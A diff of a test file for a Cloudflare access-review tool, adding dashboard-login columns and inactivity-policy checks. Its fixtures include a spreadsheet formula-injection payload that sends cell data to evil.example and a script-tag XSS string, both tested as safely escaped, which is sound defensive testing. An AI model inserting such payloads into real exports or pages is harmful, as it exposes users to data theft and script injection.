@@ -39,17 +39,17 @@ describe('review', () => {
     expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
     expect(stdout.split('\r\n')).toEqual([
       `Cloudflare access review,${path.join(BEFORE, 'graph')}`,
-      `Collected,files written ${writtenAt(BEFORE)} (summary.json; a copy shows the copy's time); newest time in the data 2025-05-30T00:00:00Z`,
+      `Collected,files written ${writtenAt(BEFORE)} (summary.json; a copy shows the copy's time); newest time in the data 2025-05-30T09:15:00Z`,
       'Completeness,Collection complete: every step finished.',
       '',
-      'Account,Account ID,Member ID,Email,Name,Status,2FA,Roles,Resource-scoped grants,Last login',
-      'Fixture Co,acc1,m1,alice@fixture.example,Alice Admin,accepted,on,Super Administrator - All Privileges,,2025-05-22T00:00:00Z',
+      'Account,Account ID,Member ID,Email,Name,Status,2FA,Roles,Resource-scoped grants,Last dashboard login,Last login',
+      'Fixture Co,acc1,m1,alice@fixture.example,Alice Admin,accepted,on,Super Administrator - All Privileges,,2025-05-30T09:15:00Z,2025-05-22T00:00:00Z',
       'Fixture Co,acc1,m2,bob@fixture.example,Bob Zone,accepted,unknown,,' +
         'Fixture Co (account): Zone Read; fixture.example (zone): Domain DNS (denied DNS Records Write); other.example (zone): denied Domain DNS,' +
-        'never',
-      'Fixture Co,acc1,m3,carol@fixture.example,"\'=HYPERLINK(""https://evil.example/?""&A1,""Carol"")",pending,off,Administrator,,not a Zero Trust user',
+        'none in 90 days,never',
+      'Fixture Co,acc1,m3,carol@fixture.example,"\'=HYPERLINK(""https://evil.example/?""&A1,""Carol"")",pending,off,Administrator,,none in 90 days,not a Zero Trust user',
       'Fixture Co,acc1,m4,dave@fixture.example,Dave <script>alert(1)</script> Styles,accepted,off,' +
-        '"SSL/TLS, Caching, Performance, Page Rules, and Customization",Fixture Co (account): Analytics,not a Zero Trust user',
+        '"SSL/TLS, Caching, Performance, Page Rules, and Customization",Fixture Co (account): Analytics,2025-03-20T12:00:00Z,not a Zero Trust user',
       '',
       'Account,Token ID,Name,Owner,Status,Permissions,Scope,Can edit,Last used,Expires',
       'Fixture Co,t2,Forgotten export,account,active,Zone Read,fixture.example (zone): Zone Read,no,never,never',
@@ -83,17 +83,17 @@ describe('review', () => {
       '',
       'Graph: `g`',
       '',
-      `Collected: files written ${writtenAt(BEFORE)} (summary.json; a copy shows the copy's time); newest time in the data 2025-05-30T00:00:00Z. Collection complete: every step finished.`,
+      `Collected: files written ${writtenAt(BEFORE)} (summary.json; a copy shows the copy's time); newest time in the data 2025-05-30T09:15:00Z. Collection complete: every step finished.`,
       '',
       '4 members in 1 accounts; 2 accepted without 2FA (off or unknown); 1 Super Administrators; 1 pending invitations',
       '',
       '## Fixture Co (acc1)',
       '',
-      '| Member ID | Email | Name | Status | 2FA | Roles | Resource-scoped grants | Last login |',
-      '| --- | --- | --- | --- | --- | --- | --- | --- |',
+      '| Member ID | Email | Name | Status | 2FA | Roles | Resource-scoped grants | Last dashboard login | Last login |',
+      '| --- | --- | --- | --- | --- | --- | --- | --- | --- |',
     ]);
     expect(md).toContain(
-      '| m1 | alice@fixture.example | Alice \\| Admin | accepted | on | Super Administrator - All Privileges |   | 2025-05-22T00:00:00Z |',
+      '| m1 | alice@fixture.example | Alice \\| Admin | accepted | on | Super Administrator - All Privileges |   | 2025-05-30T09:15:00Z | 2025-05-22T00:00:00Z |',
     );
     expect(md).toContain(
       '## API tokens\n\n| Account | Token ID | Name | Owner | Status | Permissions | Scope | Can edit | Last used | Expires |',
@@ -186,7 +186,7 @@ describe('check', () => {
     expect(text.split('\n')).toEqual([
       'graph-cloudflare check: 6 of 6 checks failed',
       'graph G, roster r.csv, policy p.json, as of 2025-06-01T00:00:00Z',
-      `Collected: files written ${writtenAt(BEFORE)} (summary.json; a copy shows the copy's time); newest time in the data 2025-05-30T00:00:00Z`,
+      `Collected: files written ${writtenAt(BEFORE)} (summary.json; a copy shows the copy's time); newest time in the data 2025-05-30T09:15:00Z`,
       '',
       'FAIL  Every member is identified in the roster: 1 found  [4 members with access (accepted or invited) in 1 account]',
       '      Fixture Co  carol@fixture.example  not in the roster (invitation pending)',
@@ -244,6 +244,87 @@ describe('check', () => {
       title: 'No active API token unused for more than 90 days',
       status: 'skip',
       summary: 'the graph holds no API tokens (the api-tokens area was not collected)',
+      offenders: [],
+    });
+  });
+
+  test('maxInactiveDays: accepted members without a dashboard login in that many days fail; invitations are not judged', () => {
+    const checks = runChecks(
+      buildAccessModel(loadGraph(BEFORE)),
+      parseRoster('email\n', 'r.csv'),
+      parsePolicy('{"maxInactiveDays": 30}', 'p.json'),
+      T0,
+    );
+    expect(checks.map((c) => c.id)).toEqual([
+      'identified',
+      'leavers',
+      'roles',
+      '2fa',
+      'super-admins',
+      'token-idle',
+      'inactive',
+    ]);
+    expect(checks[6]).toEqual({
+      id: 'inactive',
+      title: 'Every accepted member logged in to the dashboard in the last 30 days',
+      status: 'fail',
+      summary: '3 accepted members',
+      offenders: [
+        {
+          accountId: 'acc1',
+          accountName: 'Fixture Co',
+          email: 'bob@fixture.example',
+          memberId: 'm2',
+          detail: 'no dashboard login in the 90 days read',
+        },
+        {
+          accountId: 'acc1',
+          accountName: 'Fixture Co',
+          email: 'dave@fixture.example',
+          memberId: 'm4',
+          detail: 'last dashboard login 2025-03-20 (72 days ago)',
+        },
+      ],
+    });
+  });
+
+  test('maxInactiveDays without login activity in the graph: skipped, saying so, nobody failed', () => {
+    const graph = loadGraph(BEFORE);
+    const noActivity = indexGraph(
+      'g',
+      graph.entities.map(
+        ({ lastLoginOn: _l, activityWindowDays: _w, ...entity }) =>
+          entity as typeof entity & { _key: string; _type: string; _class: string[] },
+      ),
+      graph.relationships,
+      { partialTypes: [], stepStatus: new Map() },
+    );
+    const checks = runChecks(
+      buildAccessModel(noActivity),
+      parseRoster('email\n', 'r.csv'),
+      parsePolicy('{"maxInactiveDays": 30}', 'p.json'),
+      T0,
+    );
+    expect(checks[6]).toEqual({
+      id: 'inactive',
+      title: 'Every accepted member logged in to the dashboard in the last 30 days',
+      status: 'skip',
+      summary:
+        'the graph holds no login activity for these members (the activity area was off, or the token could not read the audit log)',
+      offenders: [],
+    });
+  });
+
+  test('maxInactiveDays longer than the window read: members without a login are not judged', () => {
+    const checks = runChecks(
+      buildAccessModel(loadGraph(BEFORE)),
+      parseRoster('email\n', 'r.csv'),
+      parsePolicy('{"maxInactiveDays": 120}', 'p.json'),
+      T0,
+    );
+    expect(checks[6]).toMatchObject({
+      status: 'pass',
+      summary: '2 accepted members; 1 member not judged: the audit log was read over fewer days',
       offenders: [],
     });
   });
@@ -310,7 +391,7 @@ describe('diff', () => {
       roles,
     });
     expect(diff.collections).toEqual({
-      old: expect.objectContaining({ completeness: 'complete', newestDataAt: '2025-05-30T00:00:00Z' }),
+      old: expect.objectContaining({ completeness: 'complete', newestDataAt: '2025-05-30T09:15:00Z' }),
       new: expect.objectContaining({ completeness: 'complete', newestDataAt: '2025-06-01T00:00:00Z' }),
     });
     const grant = (
@@ -465,7 +546,7 @@ describe('diff', () => {
   test('the same graph twice: no changes', async () => {
     const { code, stdout } = await cli(['diff', BEFORE, BEFORE]);
     expect(code).toBe(0);
-    const time = `files written ${writtenAt(BEFORE)} (summary.json; a copy shows the copy's time); newest time in the data 2025-05-30T00:00:00Z`;
+    const time = `files written ${writtenAt(BEFORE)} (summary.json; a copy shows the copy's time); newest time in the data 2025-05-30T09:15:00Z`;
     expect(stdout).toBe(
       `# Cloudflare changes\n\nFrom \`${path.join(BEFORE, 'graph')}\` to \`${path.join(BEFORE, 'graph')}\`: no changes.\n\n` +
         `Old graph: Collected: ${time}.\n\nNew graph: Collected: ${time}.\n`,
@@ -617,7 +698,7 @@ describe('partial and copied collections say so in every output', () => {
     const md = await cli(['review', copied]);
     expect(md.stdout.split('\n').slice(0, 3)).toEqual(['# Cloudflare access review', '', `> **${UNKNOWN}**`]);
     expect(md.stdout).toMatch(
-      /\nCollected: files written \d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ \(newest graph file; a copy shows the copy's time\); newest time in the data 2025-05-30T00:00:00Z\.\n/,
+      /\nCollected: files written \d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ \(newest graph file; a copy shows the copy's time\); newest time in the data 2025-05-30T09:15:00Z\.\n/,
     );
     const html = await cli(['review', partial, '--format', 'html']);
     expect(html.stdout).toContain(`<p class="banner" role="alert">${PARTIAL}</p>`);
